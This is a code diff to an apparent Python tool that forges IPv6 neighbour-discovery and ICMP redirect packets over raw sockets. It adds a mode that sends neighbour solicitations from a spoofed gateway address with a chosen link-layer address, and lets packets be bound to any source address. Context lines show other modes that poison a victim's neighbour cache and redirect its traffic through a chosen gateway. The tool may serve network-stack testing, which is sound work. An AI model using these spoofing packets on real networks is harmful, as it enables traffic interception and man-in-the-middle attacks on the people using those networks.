@@ -14,6 +14,9 @@ internet's namespace.
   na-solicited DEV TARGET MAC VICTIM
                           the same with the solicited flag, to VICTIM's address (nobody asked);
                           MAC,MAC2: one for each, back to back (first-answer-race)
+  ns DEV SRC TARGET MAC   a neighbour solicitation from SRC (an address of DEV's: the gateway's,
+                          as the neighbour would forge it) for TARGET, to TARGET, with MAC as
+                          its source link-layer address option
   redirect4 SRC VICTIM GW DEST PORT
                           an ICMP host redirect from SRC to VICTIM quoting a UDP datagram
                           VICTIM:40002 -> DEST:PORT: DEST is better reached through GW"""
@@ -40,12 +43,12 @@ def link_local(dev):
     sys.exit("no link-local address on " + dev)
 
 
-def send6(dev, icmp, dst):
+def send6(dev, icmp, dst, src=None):
     s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
     idx = socket.if_nametoindex(dev)
     s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
     s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
-    s.bind((link_local(dev), 0, 0, idx))
+    s.bind((src or link_local(dev), 0, 0, idx))
     s.sendto(icmp, (dst, 0, 0, idx))  # the kernel sums ICMPv6
 
 
@@ -66,6 +69,11 @@ elif mode == "na-solicited":
     na = struct.pack("!BBHI16s", 136, 0, 0, 0x60000000, socket.inet_pton(socket.AF_INET6, target))
     for m in mac.split(","):
         send6(dev, na + struct.pack("!BB6s", 2, 1, bytes.fromhex(m.replace(":", ""))), victim)
+elif mode == "ns":
+    dev, src, target, mac = sys.argv[2:6]
+    ns = struct.pack("!BBHI16s", 135, 0, 0, 0, socket.inet_pton(socket.AF_INET6, target))
+    sllao = struct.pack("!BB6s", 1, 1, bytes.fromhex(mac.replace(":", "")))
+    send6(dev, ns + sllao, target, src)
 elif mode == "redirect6":
     dev, victim, target, dest = sys.argv[2:6]
     rd = struct.pack("!BBHI16s16s", 137, 0, 0, 0, socket.inet_pton(socket.AF_INET6, target),
